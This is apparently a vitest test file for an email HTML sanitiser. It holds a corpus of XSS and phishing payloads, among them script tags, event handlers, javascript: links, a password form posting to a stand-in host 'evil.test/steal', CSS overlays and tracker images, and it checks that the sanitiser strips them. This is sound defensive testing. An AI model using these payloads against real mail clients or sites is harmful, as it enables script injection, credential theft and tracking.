import { describe, expect, it } from 'vitest';
import { frameCsp, sanitiseCss, sanitiseMailHtml } from '../../../src/mail/mime/sanitise-html.js';

const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
const clean = (html: string, remoteImages = false) => sanitiseMailHtml(html, { remoteImages }).html;

/** Each entry: hostile input, and strings that must not survive in the output (case-insensitive). */
const HOSTILE: [string, string, RegExp][] = [
  ['script element', '<p>hi</p><script>window.pwned=1</script>', /<script|pwned/i],
  ['script in odd case and spacing', '<ScRiPt >alert(1)</sCrIpT >', /script|alert/i],
  ['event handler', '<img src="x" onerror="alert(1)"><div onclick="alert(2)" onmouseover=alert(3)>x</div>', /on(error|click|mouseover)|alert/i],
  ['javascript: link', '<a href="javascript:alert(1)">x</a><a href="  JaVaScRiPt:alert(2)">y</a>', /javascript|alert/i],
  ['javascript: with entities', '<a href="jav&#x61;script:alert(1)">x</a><a href="java\tscript:alert(1)">y</a>', /script|alert/i],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', /data:/i],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>', /vbscript/i],
  ['form', '<form action="https://evil.test/steal"><input name="password"><button>Go</button></form>', /<form|<input|<button|evil\.test/i],
  ['iframe, object, embed', '<iframe src="https://evil.test"></iframe><object data="x.swf"></object><embed src="x.swf">', /iframe|object|embed|evil\.test|swf/i],
  ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">', /meta|base|evil\.test/i],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.test/x.css">', /link|evil\.test/i],
  ['svg with script', '<svg><script>window.pwned=1</script><circle onload="alert(1)"/></svg>', /svg|script|pwned|onload|alert/i],
  ['svg image use', '<svg><use href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/></svg>', /svg|use|alert/i],
  ['math', '<math><mtext><script>alert(1)</script></mtext></math>', /math|script|alert/i],
  ['fixed overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:red">fake login</div>', /position|z-index|top:|left:/i],
  ['absolute in style block', '<style>.o{position:absolute;z-index:2147483647;inset:0}</style><div class="o">x</div>', /position|z-index|inset/i],
  ['css import and expression', '<style>@import url(https://evil.test/a.css); p{width:expression(alert(1))}</style>', /@import|expression|evil\.test|alert/i],
  ['css escape hiding a property', '<div style="p\\osition:fixed">x</div>', /osition/i],
  ['css remote background', '<div style="background:url(https://tracker.test/p.gif)">x</div>', /tracker\.test|url\(/i],
  ['style closing trick', '<style>p{color:red}</style><style></style><script>alert(1)</script>', /script|alert/i],
  ['template and noscript', '<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>', /template|noscript|alert|onerror/i],
  ['srcset and background attribute', '<img srcset="https://tracker.test/a.gif 1x"><td background="https://tracker.test/b.gif">x</td>', /tracker\.test|srcset/i],
  ['protocol-relative image', '<img src="//tracker.test/p.gif">', /tracker\.test/i],
  ['svg data image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', /svg|data:/i],
  ['formaction and autofocus', '<a href="https://x.test" formaction="javascript:alert(1)" autofocus onfocus="alert(2)">x</a>', /formaction|autofocus|onfocus|alert/i],
  ['relative links into the app', '<a href="/api/messages/x/source">a</a><a href="settings">b</a><a href="//evil.test/">c</a>', /href/i],
  ['comment-hidden script', '<!--><script>alert(1)</script>-->', /<script|alert/i],
];

describe('mail HTML sanitiser: hostile corpus', () => {
  for (const [name, input, banned] of HOSTILE) {
    it(`removes ${name}`, () => {
      const out = clean(input);
      expect(out).not.toMatch(banned);
    });
  }

  it('keeps the text and the harmless layout around hostile parts', () => {
    const out = clean('<table><tr><td style="color:#c00;padding:4px"><b>Invoice</b> due <a href="https://shop.test/pay">pay</a></td></tr></table><script>x()</script>');
    expect(out).toContain('<b>Invoice</b>');
    expect(out).toContain('color:#c00');
    expect(out).toContain('padding:4px');
    expect(out).toContain('href="https://shop.test/pay"');
  });

  it('opens links in a new tab without opener or referrer, whatever the mail said', () => {
    const out = clean('<a href="https://a.test" target="_self" rel="opener">x</a><a href="mailto:bob@example.com">m</a>');
    expect(out).toContain('<a href="https://a.test" target="_blank" rel="noopener noreferrer">x</a>');
    expect(out).toContain('<a href="mailto:bob@example.com" target="_blank" rel="noopener noreferrer">m</a>');
  });
});

describe('mail HTML sanitiser: images', () => {
  it('holds remote images back and counts them until the reader allows them', () => {
    const html = '<img src="https://tracker.test/p.gif" alt="logo" width="1"><img src="http://tracker.test/q.gif">';
    const blocked = sanitiseMailHtml(html, { remoteImages: false });
    expect(blocked.blockedImages).toBe(2);
    expect(blocked.html).not.toContain('tracker.test');
    expect(blocked.html).toContain('alt="logo"');
    const allowed = sanitiseMailHtml(html, { remoteImages: true });
    expect(allowed.blockedImages).toBe(0);
    expect(allowed.html).toContain('src="https://tracker.test/p.gif"');
    expect(allowed.html).toContain('src="http://tracker.test/q.gif"');
  });

  it('turns cid: references into the inline part and drops unknown ones', () => {
    const inlineImages = new Map([['<logo@x>', PNG]]);
    const out = sanitiseMailHtml('<img src="cid:logo@x" alt="a"><img src="CID:%3Clogo@x%3E" alt="b"><img src="cid:missing@x" alt="c">', { remoteImages: false, inlineImages });
    expect(out.html.split(PNG)).toHaveLength(3);
    expect(out.html).toContain('<img alt="c" />');
    expect(out.blockedImages).toBe(0);
  });

  it('keeps raster data: images only', () => {
    expect(clean(`<img src="${PNG}">`)).toContain(PNG);
    expect(clean('<img src="data:text/html;base64,PHNjcmlwdD4=">')).not.toContain('data:');
  });
});

describe('mail CSS filter', () => {
  it('keeps colours, fonts and spacing; removes positioning and stacking', () => {
    expect(sanitiseCss('color: red; position: fixed; font-size: 14px; z-index: 9')).toBe('color: red; font-size: 14px;');
    expect(sanitiseCss('.a{position:absolute;color:blue}')).toBe('.a{color:blue}');
  });

  it('drops CSS with escapes, expressions or imports as a whole', () => {
    expect(sanitiseCss('color:red; p\\osition:fixed')).toBe('');
    expect(sanitiseCss('@import "x.css"; color: red')).toBe('');
  });
});

describe('the frame CSP', () => {
  it('runs no script, sandboxes the frame and allows remote images only when asked', () => {
    const strict = frameCsp(false);
    expect(strict).toContain("default-src 'none'");
    expect(strict).not.toMatch(/script-src|allow-scripts|allow-same-origin/);
    expect(strict).toMatch(/(^|; )sandbox( |;|$)/);
    expect(strict).toContain('img-src data:;');
    expect(frameCsp(true)).toContain('img-src data: https: http:;');
  });
});
